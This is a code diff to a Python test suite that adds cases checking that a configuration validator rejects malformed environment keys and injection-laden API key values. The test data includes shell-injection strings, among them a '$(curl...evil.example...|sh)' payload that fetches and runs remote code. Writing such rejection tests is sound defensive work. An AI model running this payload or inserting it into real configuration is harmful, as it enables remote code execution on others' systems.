@@ -463,7 +463,16 @@ def round3_cases() -> list[Case]:
     # 9. messages: a bad extra_env key blames the key; merge keys are standard YAML and accepted
     for key in ("A=1;x", "1ABC", "A B", "$(x)"):
         out.append(
-            _exit2("messages", f"extra_env key {key!r}", "(the key)", **{"roles.0.extra_env": {key: "1", "OK": "1"}})
+            _exit2(
+                "messages",
+                f"extra_env key {key!r}",
+                "the key (not its value)",
+                **{"roles.0.extra_env": {key: "1", "OK": "1"}},
+            )
+        )
+    for payload in (f"$({PWN})", "a;b", "$(curl${IFS}http://evil.example/x0123456789abcdefghijKLM|sh)"):
+        out.append(
+            _exit2("messages", f"api_key_secret {payload[:20]!r}", "neither", **{"serving.api_key_secret": payload})
         )
     base = yaml.safe_dump({k: v for k, v in BASE.items() if k != "roles"}, sort_keys=False)
     role = "{name: serve, kind: mixed, nodes: 1, max_model_len: 1024, enforce_eager: true, kv_cache_gib: 1}"
